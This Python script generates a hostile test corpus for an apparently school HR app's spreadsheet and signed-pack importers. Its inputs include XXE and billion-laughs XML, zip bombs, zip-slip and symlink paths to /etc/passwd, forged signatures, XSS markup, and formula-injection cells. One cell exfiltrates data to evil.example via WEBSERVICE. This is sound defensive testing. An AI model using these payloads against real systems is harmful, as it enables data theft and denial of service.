"""Generate the large and binary files of the hostile corpus (the small text ones are committed).

    python tests/data/hostile/make_hostile.py OUTPUT_FOLDER

writes every generated file into OUTPUT_FOLDER, with a throw-away county key: the public half
as ``county.pub.pem`` (trust it at a school to import the signed content packs), the private
half never written. Data packs come from the school ``SENDER`` and are signed, as every data
pack is, with that school's own site key: ``SENDER_KEY``, made when this module is imported
(each run has its own; it is never written). Import them at a county-role site (they carry
their public key, which the county binds to ``SENDER`` on the first import). The reliability
tests call ``generate(folder, key)`` with a county key made for the test run; nothing
generated here is committed. README.md beside this script lists every file, committed or
generated, with the importer it attacks and the outcome the tests expect.

Also here, because the crash, disk-full, round-trip and fuzz tests need them too:
``write_pack`` (a data or content pack built the way ``schoolhr.sync`` writes them and signed
the same way), ``sign_manifest`` and the record makers ``contact_record`` / ``entry_record``.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import io
import json
import random
import shutil
import sqlite3
import struct
import sys
import uuid
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[3]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from cryptography.hazmat.primitives import serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric import rsa  # noqa: E402
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey  # noqa: E402
from openpyxl import Workbook  # noqa: E402

from schoolhr.store import migrate  # noqa: E402
from schoolhr.sync import signing  # noqa: E402
from schoolhr.sync.format import PackWriter, encode_manifest  # noqa: E402

SEED = 20261122
HERE = Path(__file__).resolve().parent
SENDER = {"site_uuid": "5c1f0000-0000-4000-8000-000000000001", "name": "測試國小", "role": "school"}
COUNTY = {"site_uuid": "c0c0c0c0-0000-4000-8000-000000000002", "name": "示範縣", "role": "county"}
STAMP = "2026-03-01T08:00:00+00:00"
SENDER_KEY = Ed25519PrivateKey.generate()
"""``SENDER``'s own site key for this run: data packs from ``SENDER`` are signed with it."""
ABSOLUTE_TARGET = "/tmp/schoolhr-hostile-absolute-target.png"
"""Where the absolute-path zip slip would write if a reader ever followed it (must not exist)."""
EXPAND_BYTES = 600 * 1024 * 1024  # what the zip bombs unpack to
PNG_1PX = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


# ---------------------------------------------------------------------------------------------
# packs


def new_uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def contact_record(uid: str, name: str, school: str = "測試國小", **extra: Any) -> dict[str, Any]:
    """A contact as a data pack carries it (every field of ``sync.data.ContactData``)."""
    record: dict[str, Any] = {
        "uuid": uid,
        "name": name,
        "school": school,
        "region": "",
        "role": "兼任人事",
        "duties": ["差勤"],
        "years": 3,
        "office_phone": "",
        "mobile": "",
        "email": "",
        "line_id": "",
        "notes": "",
        "consent_date": None,
        "consent_scope": "",
        "origin": SENDER["site_uuid"],
        "deleted": False,
        "updated_at": STAMP,
    }
    record.update(extra)
    return record


def entry_record(
    uid: str, contact_uuid: str, points: int, status: str = "claimed"
) -> dict[str, Any]:
    """A ledger entry as a data pack carries it (``sync.data.RewardEntryData``). A school's
    pack may only carry plain claims (``status`` "claimed", undecided) of a kind and points
    the rule version allows: "peer-help" of rule version 1 allows 1 to 10 points."""
    decided = status != "claimed"
    return {
        "uuid": uid,
        "contact_uuid": contact_uuid,
        "date": "2026-02-01",
        "kind": "peer-help",
        "points": points,
        "rule_version": 1,
        "reason": "協助小群組同仁",
        "evidence": "",
        "recorded_by": "測試",
        "status": status,
        "decision_reason": "查核屬實" if decided else "",
        "decision_date": "2026-02-15" if decided else None,
        "decided_by": "縣府" if decided else "",
        "reverses": None,
        "origin": SENDER["site_uuid"],
        "created_at": STAMP,
        "updated_at": STAMP,
    }


def faq_record(entry_id: str, title: str, body: str) -> dict[str, Any]:
    return {
        "id": entry_id,
        "title": title,
        "category": "請假",
        "audience": ["職員"],
        "keywords": ["休假"],
        "sources": [{"name": "公務人員請假規則"}],
        "reviewed": "2026-01-05",
        "body": body,
    }


SYSTEM = {"code": "webitr", "name": "WebITR 差勤系統", "per_site": True}


def guide_record(picture: str | None = None, detail: str = "看圖操作") -> dict[str, Any]:
    """A guide as a content pack carries it (``guides.schema.Guide``), one step."""
    step: dict[str, Any] = {"title": "開啟差勤系統", "detail": detail}
    if picture:
        step["picture"] = picture
    return {
        "id": "hostile-guide",
        "title": "在 WebITR 申請補休",
        "system": "webitr",
        "audience": ["職員"],
        "sources": [{"name": "各縣市 WebITR 線上操作說明"}],
        "checked": "2026-01-05",
        "steps": [step],
    }


def write_pack(
    target: Path,
    kind: str,
    members: dict[str, list[dict[str, Any]]],
    *,
    key: Ed25519PrivateKey | None = None,
    content_version: int | None = None,
    pack_id: str | None = None,
    files: dict[str, bytes] | None = None,
    origin: dict[str, str] | None = None,
    created_at: str = STAMP,
    recipient: dict[str, str] | None = None,
    unsigned: bool = False,
) -> Path:
    """A pack as ``schoolhr.sync.service.export_pack`` writes it: ``members`` maps a record
    type to its records.

    A content pack (from ``COUNTY`` unless ``origin`` says otherwise) is signed with ``key``
    (unsigned without one). A data pack comes from ``origin`` (``SENDER`` by default): a
    school's is signed with its own site key, ``key`` (``SENDER_KEY`` by default), and carries
    the public key (``signer_key``); a county's (``origin`` with role "county") is signed with
    the county key ``key`` and names the school it is for (``recipient``). ``unsigned``
    leaves the signature out. Packs from one site must be newer each time (``created_at``):
    an older or the same one is refused as a replay."""
    if origin is None:
        origin = COUNTY if kind == "content" else SENDER
    school = kind == "data" and origin.get("role") == "school"
    if school and key is None:
        key = SENDER_KEY
    if unsigned:
        key = None
    writer = PackWriter(
        kind=kind,
        origin=origin,
        created_at=created_at,
        schema_version=migrate.head_revision(),
        pack_id=pack_id or str(uuid.uuid4()),
        content_version=content_version if kind == "content" else None,
        recipient=dict(recipient or {}),
    )
    for record_type, records in members.items():
        writer.add_records(record_type, records)
    for name, data in (files or {}).items():
        writer.add_file(name, data)
    signer = signing.fingerprint(key.public_key()) if key is not None else ""
    signer_key = signing.public_text(key.public_key()) if key is not None and school else ""
    manifest_bytes = encode_manifest(writer.manifest(signer, signer_key))
    signature = signing.sign(key, manifest_bytes) if key is not None else None
    writer.write(target, manifest_bytes, signature)
    return target


def sign_manifest(
    manifest: dict[str, Any], key: Ed25519PrivateKey = SENDER_KEY
) -> list[tuple[str, bytes]]:
    """A school's data-pack ``manifest`` signed with its site ``key``: the signer's fingerprint
    and public key put in, then the members ``manifest.json`` and ``signature.ed25519`` (the
    signature of exactly those manifest bytes)."""
    public = key.public_key()
    manifest["signer"] = signing.fingerprint(public)
    manifest["signer_key"] = signing.public_text(public)
    raw = json.dumps(manifest, ensure_ascii=False).encode("utf-8")
    return signed_members(raw, key)


def signed_members(
    manifest_bytes: bytes, key: Ed25519PrivateKey = SENDER_KEY
) -> list[tuple[str, bytes]]:
    """The members ``manifest.json`` (``manifest_bytes`` as they are) and its signature."""
    return [("manifest.json", manifest_bytes), ("signature.ed25519", key.sign(manifest_bytes))]


def _raw_zip(target: Path, members: list[tuple[str, bytes]], **options: Any) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2026, 3, 1, 8, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data, **options)
    target.write_bytes(buffer.getvalue())
    return target


def _manifest(members: list[tuple[str, bytes]], **extra: Any) -> list[tuple[str, bytes]]:
    """A data pack's manifest listing ``members`` truthfully (``extra`` fields changed), signed
    with ``SENDER_KEY``: the members ``manifest.json`` and ``signature.ed25519``."""
    data = {
        "format": "schoolhr-pack",
        "format_version": 1,
        "pack_id": "00000000-0000-4000-8000-00000000beef",
        "kind": "data",
        "origin": SENDER,
        "created_at": STAMP,
        "schema_version": migrate.head_revision(),
        "members": [
            {"name": n, "sha256": hashlib.sha256(d).hexdigest(), "size": len(d), "records": 1}
            for n, d in members
        ],
    }
    data.update(extra)
    return sign_manifest(data)


def _data_pack_with(target: Path, members: list[tuple[str, bytes]], **extra: Any) -> Path:
    """A data pack holding exactly ``members`` with a manifest that lists them truthfully,
    signed by ``SENDER`` as a school's data pack is."""
    return _raw_zip(target, [*_manifest(members, **extra), *members])


def _jsonl(*records: dict[str, Any]) -> bytes:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records).encode("utf-8")


@functools.cache
def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` zero bytes (a megabyte at a time) and its CRC-32.

    After a full flush the compressor starts afresh, so every megabyte after the first
    compresses to the same bytes: the stream is built by repeating them, in milliseconds."""
    chunk = bytes(1024 * 1024)
    count = size // len(chunk)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    return first + repeated * (count - 1) + compressor.flush(), crc


def _zip_with_raw_member(
    target: Path, before: list[tuple[str, bytes]], name: str, size: int, declared: int | None
) -> Path:
    """A zip holding ``before`` and a member ``name`` whose data is ``size`` zeros, deflated;
    its headers declare ``declared`` bytes (the truth when None). Written by hand: zipfile
    cannot write a member without holding its whole content."""
    stream, crc = _zeros_deflated(size)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member_name, data in before:
            archive.writestr(member_name, data)
    head = bytearray(buffer.getvalue())
    # Split the archive made so far into its local entries and its central directory.
    end = head.rfind(b"PK\x05\x06")
    entries, central_offset, central_size = _end_record(bytes(head[end:]))
    local = bytes(head[:central_offset])
    central = bytes(head[central_offset : central_offset + central_size])
    declared_size = size if declared is None else declared
    encoded = name.encode("utf-8")
    offset = len(local)
    local_header = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        20,
        0x800,
        8,
        0,
        0x5A21,
        crc,
        len(stream),
        declared_size,
        len(encoded),
        0,
    )
    central_header = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        20,
        20,
        0x800,
        8,
        0,
        0x5A21,
        crc,
        len(stream),
        declared_size,
        len(encoded),
        0,
        0,
        0,
        0,
        0,
        offset,
    )
    body = local + local_header + encoded + stream
    directory = central + central_header + encoded
    end_record = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries + 1, entries + 1, len(directory), len(body), 0
    )
    target.write_bytes(body + directory + end_record)
    return target


def _end_record(data: bytes) -> tuple[int, int, int]:
    _sig, _disk, _start, _here, entries, size, offset, _comment = struct.unpack(
        "<4sHHHHIIH", data[:22]
    )
    return entries, offset, size


def needs_zip_version(data: bytes, version: int) -> bytes:
    """The zip with its first central-directory entry saying it needs ``version`` (99: 9.9)
    to be extracted, a version Python's zipfile refuses with NotImplementedError."""
    out = bytearray(data)
    struct.pack_into("<H", out, out.find(b"PK\x01\x02") + 6, version)
    return bytes(out)


def _set_flag_bits(data: bytes, name: bytes, bits: int) -> bytes:
    """Set general-purpose flag bits of member ``name`` in its local and central headers."""
    out = bytearray(data)
    for signature, flag_at, name_len_at, header_size in (
        (b"PK\x03\x04", 6, 26, 30),
        (b"PK\x01\x02", 8, 28, 46),
    ):
        start = 0
        while (start := out.find(signature, start)) != -1:
            length = struct.unpack_from("<H", out, start + name_len_at)[0]
            if bytes(out[start + header_size : start + header_size + length]) == name:
                flags = struct.unpack_from("<H", out, start + flag_at)[0]
                struct.pack_into("<H", out, start + flag_at, flags | bits)
            start += 4
    return bytes(out)


# ---------------------------------------------------------------------------------------------
# xlsx


def _workbook_bytes(fill: Callable[[Any], None]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "聯絡人"
    fill(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _simple_sheet(sheet: Any) -> None:
    sheet.append(["姓名", "服務學校", "電子郵件"])
    sheet.append(["王小明", "桃源國小", "wang@school.tw"])
    sheet.append(["林怡君", "復興國中", "lin@school.tw"])


def _replace_member(data: bytes, name: str, new: bytes) -> bytes:
    """An xlsx with member ``name`` replaced (every other member copied as it was)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info, new if info.filename == name else source.read(info))
    return buffer.getvalue()


def _add_member(data: bytes, name: str, content: bytes) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as out:
        out.writestr(name, content)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _sheet_xml(rows: str, doctype: str = "", dimension: str = "A1:B3") -> bytes:
    head = SHEET_HEAD
    if doctype:
        head = head.replace("\n", "\n" + doctype + "\n", 1)
    return (
        f'{head}<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _header_rows() -> str:
    return f'<row r="1">{_inline("A1", "姓名")}{_inline("B1", "服務學校")}</row>'


def _xlsx_files(folder: Path, rng: random.Random) -> None:
    base = _workbook_bytes(_simple_sheet)

    def put(name: str, data: bytes) -> None:
        (folder / name).write_bytes(data)

    xxe = '<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/hostname">]>'
    rows = _header_rows() + f'<row r="2">{_inline("A2", "&secret;")}</row>'
    put("xlsx_xxe_file_entity.xlsx", _replace_member(base, SHEET, _sheet_xml(rows, xxe)))

    # Each entity is ten of the one before: &l9; would be ten billion 「哈」.
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "哈" * 10}">' for n in range(10)
    )
    rows = _header_rows() + f'<row r="2">{_inline("A2", "&l9;")}</row>'
    put(
        "xlsx_billion_laughs.xlsx",
        _replace_member(base, SHEET, _sheet_xml(rows, f"<!DOCTYPE worksheet [{laughs}]>")),
    )

    rows = _header_rows() + "".join(
        f'<row r="{n}">{_inline(f"A{n}", name)}{_inline(f"B{n}", "桃源國小")}</row>'
        for n, name in ((2, "王小明"), (3, "林怡君"))
    )
    put(
        "xlsx_dimension_claims_1048576_rows.xlsx",
        _replace_member(base, SHEET, _sheet_xml(rows, dimension="A1:XFD1048576")),
    )

    rows = _header_rows() + f'<row r="1048576">{_inline("A1048576", "最後一列")}</row>'
    put(
        "xlsx_row_1048576.xlsx",
        _replace_member(base, SHEET, _sheet_xml(rows, dimension="A1:B1048576")),
    )

    rows = _header_rows() + f'<row r="2">{_inline("XFD2", "最後一欄")}</row>'
    put("xlsx_column_xfd.xlsx", _replace_member(base, SHEET, _sheet_xml(rows)))

    rows = _header_rows() + '<row r="2"><c r="A2" t="s"><v>999999999</v></c></row>'
    put("xlsx_bad_shared_string_index.xlsx", _replace_member(base, SHEET, _sheet_xml(rows)))

    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        others = [(i.filename, archive.read(i)) for i in archive.infolist() if i.filename != SHEET]
    _zip_with_raw_member(folder / "xlsx_zip_bomb.xlsx", others, SHEET, EXPAND_BYTES, None)
    _zip_with_raw_member(
        folder / "xlsx_zip_bomb_lying_sizes.xlsx", others, SHEET, 100 * 1024 * 1024, 2048
    )

    put("xlsx_zip_version_99.xlsx", needs_zip_version(base, 99))
    put("xlsx_wrong_signature.xlsx", PNG_1PX)
    ole = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
    put("xlsx_old_xls.xlsx", ole + rng.randbytes(1024))
    put("xlsx_encrypted.xlsx", ole + "EncryptedPackage".encode("utf-16-le") + rng.randbytes(512))
    put("xlsx_truncated.xlsx", base[: len(base) // 2])
    put("xlsx_zip_slip_member.xlsx", _add_member(base, "../../evil-from-xlsx.txt", b"evil"))
    put(
        "xlsx_ods_mimetype.xlsx",
        _raw_zip(
            folder / "tmp.zip",
            [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")],
        ).read_bytes(),
    )
    put("xlsx_xlsb.xlsx", _add_member(base, "xl/workbook.bin", b"\x00" * 64))
    (folder / "tmp.zip").unlink()

    def formulas(sheet: Any) -> None:
        sheet.append(["姓名", "服務學校", "備註"])
        sheet.append(['=HYPERLINK("http://evil.example/","點我")', "桃源國小", "=1+1"])
        sheet.append(["=cmd|' /C calc'!A0", "@SUM(A1:A2)", "+886912345678"])
        sheet.append(["王小明", "-2+3", '=WEBSERVICE("http://evil.example/?"&A2)'])

    put("xlsx_formula_cells.xlsx", _workbook_bytes(formulas))

    def long_name(sheet: Any) -> None:
        sheet.append(["姓名", "服務學校"])
        sheet.append(["王" * 10_000, "桃源國小"])
        sheet.append(["林怡君", "復興國中"])

    put("xlsx_long_name.xlsx", _workbook_bytes(long_name))

    name, school = _inline("A2", "王_x0000_小_x0007_明"), _inline("B2", "桃源_x001B_國小")
    rows = _header_rows() + f'<row r="2">{name}{school}</row>'
    put("xlsx_control_characters.xlsx", _replace_member(base, SHEET, _sheet_xml(rows)))

    _xlsx_xml_bombs(base, put)


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS = "xl/sharedStrings.xml"


def _with_members(data: bytes, members: dict[str, bytes]) -> bytes:
    """An xlsx with ``members`` replaced or added, deflated at level 9 (XML repeating one
    element shrinks about a thousand times); a shared-string table is declared in the content
    types so that openpyxl reads it."""
    source = zipfile.ZipFile(io.BytesIO(data))
    members = dict(members)
    if SHARED_STRINGS in members:
        types = source.read("[Content_Types].xml")
        override = (
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
        members["[Content_Types].xml"] = types.replace(b"</Types>", override + b"</Types>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            name = info.filename
            body = members.pop(name) if name in members else source.read(info)
            out.writestr(info, body, zipfile.ZIP_DEFLATED, compresslevel=9)
        for name, content in members.items():
            out.writestr(name, content, zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


def _xlsx_xml_bombs(base: bytes, put: Callable[[str, bytes], None]) -> None:
    """XML bombs inside the 512 MB unpacked limit (30-130 KB each): the parts openpyxl would
    turn into millions of objects. ``reports.xlsx_guard`` refuses each in its scan."""
    sst = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN_NS}">'.encode()
    tiny = sst + b"<si><t>a</t></si>" * 3_000_000 + b"</sst>"
    put("xlsx_shared_strings_3_million.xlsx", _with_members(base, {SHARED_STRINGS: tiny}))
    huge = sst + b"<si><t>" + b"a" * (100 * 1024 * 1024) + b"</t></si></sst>"
    put("xlsx_shared_string_100_mb.xlsx", _with_members(base, {SHARED_STRINGS: huge}))
    del tiny, huge
    runs = sst + (b"<si>" + b"<r><t>a</t></r>" * 10 + b"</si>") * 200_000 + b"</sst>"
    put("xlsx_shared_strings_2_million_runs.xlsx", _with_members(base, {SHARED_STRINGS: runs}))
    del runs

    count = 60_000  # of each of five kinds of record: 300,000 style records, 13 MB
    styles = (
        f'<styleSheet xmlns="{MAIN_NS}"><numFmts count="{count}">'
        + '<numFmt numFmtId="164" formatCode="0.00"/>' * count
        + f'</numFmts><fonts count="{count}">'
        + '<font><sz val="11"/></font>' * count
        + f'</fonts><fills count="{count}">'
        + '<fill><patternFill patternType="none"/></fill>' * count
        + f'</fills><borders count="{count}">'
        + "<border><left/><right/></border>" * count
        + f'</borders><cellXfs count="{count}">'
        + '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0"/>' * count
        + "</cellXfs></styleSheet>"
    ).encode()
    put("xlsx_styles_300000_records.xlsx", _with_members(base, {"xl/styles.xml": styles}))
    del styles

    row = _header_rows() + '<row r="2">' + '<c r="C2"/>' * 3_000_000 + "</row>"
    put("xlsx_row_of_3_million_cells.xlsx", _with_members(base, {SHEET: _sheet_xml(row)}))
    rows = _header_rows() + "<row/>" * 5_000_000
    put("xlsx_5_million_empty_rows.xlsx", _with_members(base, {SHEET: _sheet_xml(rows)}))


# ---------------------------------------------------------------------------------------------
# packs


def _pack_files(folder: Path, key: Ed25519PrivateKey, rng: random.Random) -> None:
    person = new_uuid(rng)
    good_contacts = [contact_record(person, "王小明")]
    good_entries = [entry_record(new_uuid(rng), person, 2)]  # a plain claim

    png = [("pictures/evil.png", PNG_1PX)]
    for name, member in (
        ("pack_zip_slip_parent.zip", "../../evil-from-pack.png"),
        ("pack_zip_slip_absolute.zip", ABSOLUTE_TARGET),
        ("pack_zip_slip_backslash.zip", "pictures\\..\\..\\evil-from-pack.png"),
        ("pack_zip_slip_drive_letter.zip", "C:/Windows/evil-from-pack.png"),
    ):
        members = [(member, PNG_1PX)]
        _data_pack_with(folder / name, members)

    bomb = [("records/contacts.jsonl", b" " * (4 * 1024 * 1024))]
    _data_pack_with(folder / "pack_zip_bomb_ratio.zip", bomb)
    _zip_with_raw_member(
        folder / "pack_zip_bomb.zip",
        _manifest([("records/contacts.jsonl", b"")]),
        "records/contacts.jsonl",
        EXPAND_BYTES,
        None,
    )
    _zip_with_raw_member(
        folder / "pack_zip_bomb_lying_sizes.zip",
        _manifest([("records/contacts.jsonl", b"x" * 100)]),
        "records/contacts.jsonl",
        100 * 1024 * 1024,
        100,
    )

    content = {"faq": [faq_record("hostile-entry", "休假可以分次請嗎？", "可以，依規定辦理。" * 3)]}
    other_key = Ed25519PrivateKey.generate()
    write_pack(
        folder / "pack_content_other_key.zip", "content", content, key=other_key, content_version=5
    )
    write_pack(folder / "pack_content_unsigned.zip", "content", content, content_version=5)
    signed = write_pack(
        folder / "pack_content_replayed.zip", "content", content, key=key, content_version=3
    )
    with zipfile.ZipFile(signed) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    tampered = json.loads(parts["manifest.json"])
    tampered["content_version"] = 99  # a newer version number, with the old signature
    _raw_zip(
        folder / "pack_content_version_bumped.zip",
        [
            ("manifest.json", json.dumps(tampered, ensure_ascii=False).encode()),
            *[(n, d) for n, d in parts.items() if n != "manifest.json"],
        ],
    )
    hostile_faq = faq_record(
        "hostile-markup",
        "<script>alert(1)</script>休假？",
        "![圖](file:///etc/passwd) <img src='file:///etc/hostname'> "
        "[連結](javascript:alert(1)) <iframe src='https://evil.example/'></iframe>",
    )
    write_pack(
        folder / "pack_content_hostile_markup.zip",
        "content",
        {"faq": [hostile_faq]},
        key=key,
        content_version=7,
    )
    link = zipfile.ZipInfo("pictures/link.png", (2026, 3, 1, 8, 0, 0))
    link.external_attr = (0o120777 << 16) | 0x20  # a symbolic link in the zip's Unix mode bits
    symlinked = write_pack(
        folder / "tmp-symlink.zip",
        "content",
        {"guide_systems": [SYSTEM], "guides": [guide_record("pictures/link.png")]},
        key=key,
        content_version=8,
        files={"pictures/link.png": b"/etc/passwd"},
    )
    with zipfile.ZipFile(symlinked) as source:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
            for info in source.infolist():
                data = source.read(info)
                out.writestr(link if info.filename == "pictures/link.png" else info, data)
    (folder / "pack_symlink_member.zip").write_bytes(buffer.getvalue())
    symlinked.unlink()

    data_members = {"contacts": good_contacts, "reward_entries": good_entries}
    write_pack(folder / "pack_data_replayed.zip", "data", data_members)
    write_pack(folder / "pack_data_unsigned.zip", "data", data_members, unsigned=True)
    genuine = write_pack(folder / "tmp-genuine.zip", "data", data_members)
    with zipfile.ZipFile(genuine) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    forged = json.loads(parts["manifest.json"])
    forged["origin"] = {**SENDER, "name": "冒名國小"}  # edited after it was signed
    _raw_zip(
        folder / "pack_data_signature_mismatch.zip",
        [
            ("manifest.json", json.dumps(forged, ensure_ascii=False).encode()),
            *[(n, d) for n, d in parts.items() if n != "manifest.json"],
        ],
    )
    genuine.unlink()
    # (a uuid of its own, not from ``rng``: the files after it stay as they were)
    decided = str(uuid.uuid5(uuid.NAMESPACE_URL, "schoolhr-hostile/self-approved"))
    approved = [entry_record(decided, person, 2, "approved")]
    write_pack(
        folder / "pack_data_self_approved.zip",
        "data",
        {"contacts": good_contacts, "reward_entries": approved},
    )
    full = write_pack(folder / "tmp-data.zip", "data", data_members).read_bytes()
    (folder / "pack_truncated.zip").write_bytes(full[: len(full) * 2 // 3])
    (folder / "pack_zip_version_99.zip").write_bytes(needs_zip_version(full, 99))
    (folder / "tmp-data.zip").unlink()

    contacts = _jsonl(*good_contacts)
    _raw_zip(folder / "pack_no_manifest.zip", [("records/contacts.jsonl", contacts)])
    members = [("records/contacts.jsonl", contacts)]
    _data_pack_with(folder / "pack_newer_format.zip", members, format_version=99)
    _raw_zip(
        folder / "pack_manifest_not_json.zip",
        [*signed_members(b'{"format": "schoolhr-pack", \x00'), *members],
    )
    title = "".join(chr(rng.randrange(0x4E00, 0x9FA5)) for _ in range(2 * 1024 * 1024))
    big_manifest = _manifest(members, title=title)  # 6 MB that do not compress
    _raw_zip(folder / "pack_huge_manifest.zip", [*big_manifest, *members])
    _raw_zip(
        folder / "pack_member_hash_mismatch.zip",
        [*_manifest(members), ("records/contacts.jsonl", contacts.replace(b"\xe7", b"\xe8"))],
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _manifest(members):
            archive.writestr(name, data)
        archive.writestr("records/contacts.jsonl", contacts)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns: a duplicate is the point here
            archive.writestr("records/contacts.jsonl", contacts)
    (folder / "pack_duplicate_members.zip").write_bytes(buffer.getvalue())
    plain = _data_pack_with(folder / "tmp.zip", members).read_bytes()
    (folder / "pack_encrypted_member.zip").write_bytes(
        _set_flag_bits(plain, b"records/contacts.jsonl", 0x1)
    )
    (folder / "tmp.zip").unlink()
    _data_pack_with(
        folder / "pack_bad_json_line.zip", [("records/contacts.jsonl", b'{"uuid": "x", \n')]
    )
    _data_pack_with(
        folder / "pack_unknown_record_type.zip", [("records/salaries.jsonl", _jsonl({"a": 1}))]
    )
    _data_pack_with(folder / "pack_data_with_picture.zip", [*members, *png])
    many = [(f"pictures/p{n}.png", b"x") for n in range(5001)]
    _data_pack_with(folder / "pack_too_many_members.zip", many)
    long_name = contact_record(new_uuid(rng), "王" * 10_000)
    write_pack(folder / "pack_long_name.zip", "data", {"contacts": [long_name]})
    formula = contact_record(new_uuid(rng), "=cmd|' /C calc'!A0", notes='=HYPERLINK("x")')
    write_pack(folder / "pack_formula_text.zip", "data", {"contacts": [formula]})
    nul = contact_record(new_uuid(rng), "王\x00小明", notes="a\x00b")
    write_pack(folder / "pack_nul_in_record.zip", "data", {"contacts": [nul]})
    orphan = entry_record(new_uuid(rng), new_uuid(rng), 3)  # an honest claim, for nobody
    write_pack(folder / "pack_entry_for_unknown_person.zip", "data", {"reward_entries": [orphan]})


def limit_packs(folder: Path, key: Ed25519PrivateKey) -> list[Path]:
    """Issue 19: JSON no encoder writes (1e999, 200,000 brackets, a 5,000-digit number) and
    values beyond the ranges SchoolHR holds records to, each in a validly signed pack so that
    it reaches the check it attacks: data packs from ``SENDER``, content packs signed with the
    county ``key``. UUIDs of their own (not from ``rng``: the files after them stay as they
    were). Returns the files written."""

    def uid(name: str) -> str:
        return str(uuid.uuid5(uuid.NAMESPACE_URL, f"schoolhr-hostile/limits/{name}"))

    person = uid("person")
    contact = contact_record(person, "王小明")
    contacts = _jsonl(contact)
    manifest = {
        "format": "schoolhr-pack",
        "format_version": 1,
        "pack_id": uid("huge-float"),
        "kind": "data",
        "origin": SENDER,
        "created_at": STAMP,
        "schema_version": migrate.head_revision(),
        "members": [
            {
                "name": "records/contacts.jsonl",
                "sha256": hashlib.sha256(contacts).hexdigest(),
                "size": len(contacts),
                "records": 1,
            }
        ],
    }
    public = SENDER_KEY.public_key()
    manifest["signer"] = signing.fingerprint(public)
    manifest["signer_key"] = signing.public_text(public)
    text = json.dumps(manifest, ensure_ascii=False, indent=1)
    text = text.replace(f'"size": {len(contacts)}', '"size": 1e999')  # signed as it is
    written = [
        _raw_zip(
            folder / "pack_json_huge_float_manifest.zip",
            [*signed_members(text.encode("utf-8")), ("records/contacts.jsonl", contacts)],
        )
    ]
    deep = ('{"uuid": ' + "[" * 200_000 + "]" * 200_000 + "}\n").encode()
    written.append(
        _data_pack_with(
            folder / "pack_json_deep_nesting_record.zip", [("records/contacts.jsonl", deep)]
        )
    )
    digits = json.dumps(contact, ensure_ascii=False).replace('"years": 3', '"years": ' + "9" * 5000)
    written.append(
        _data_pack_with(
            folder / "pack_json_5000_digit_number.zip",
            [("records/contacts.jsonl", (digits + "\n").encode())],
        )
    )
    claim = entry_record(uid("points"), person, 9 * 10**18)  # sums overflowed SQLite
    written.append(
        write_pack(
            folder / "pack_points_out_of_range.zip",
            "data",
            {"contacts": [contact], "reward_entries": [claim]},
        )
    )
    aged = contact_record(person, "王小明", years=10**19)  # 20 digits, beyond 64 bits
    written.append(write_pack(folder / "pack_years_out_of_range.zip", "data", {"contacts": [aged]}))
